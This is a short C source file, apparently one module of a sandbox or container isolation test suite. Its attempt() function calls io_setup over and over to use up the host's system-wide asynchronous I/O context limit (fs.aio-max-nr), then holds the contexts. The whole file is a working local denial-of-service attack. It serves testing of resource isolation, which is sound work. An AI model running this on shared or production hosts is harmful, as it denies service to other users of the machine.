/* Takes all of the host's asynchronous requests (io_setup(2), fs.aio-max-nr). */
#include "common/attack.h"

static void attempt(void) {
    int made = 0;
    unsigned long context = 0;
    while (made < 10000 && syscall(SYS_io_setup, 1024, &context) == 0) {
        context = 0;
        made++;
    }
    while (made < 20000 && syscall(SYS_io_setup, 1, &context) == 0) {
        context = 0;
        made++;
    }
    printf("%d contexts: %s\n", made, strerror(errno));
    hold();
}
